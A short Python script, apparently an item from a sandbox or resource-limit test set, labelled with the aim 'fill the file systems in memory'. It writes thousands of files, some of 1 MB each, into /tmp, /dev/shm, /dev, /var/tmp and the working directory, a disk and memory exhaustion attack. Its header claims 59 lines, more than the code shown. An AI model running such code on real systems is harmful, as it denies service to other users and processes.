# aim: fill the file systems in memory
# task: share  points: 0
# lines: 59
for place in ("/tmp", "/dev/shm", ".", "/dev", "/var/tmp"):
    try:
        for number in range(5000):
            with open(f"{place}/{number}", "wb") as file:
                if number < 200:
                    file.write(b"x" * 1_000_000)
    except OSError:
        pass
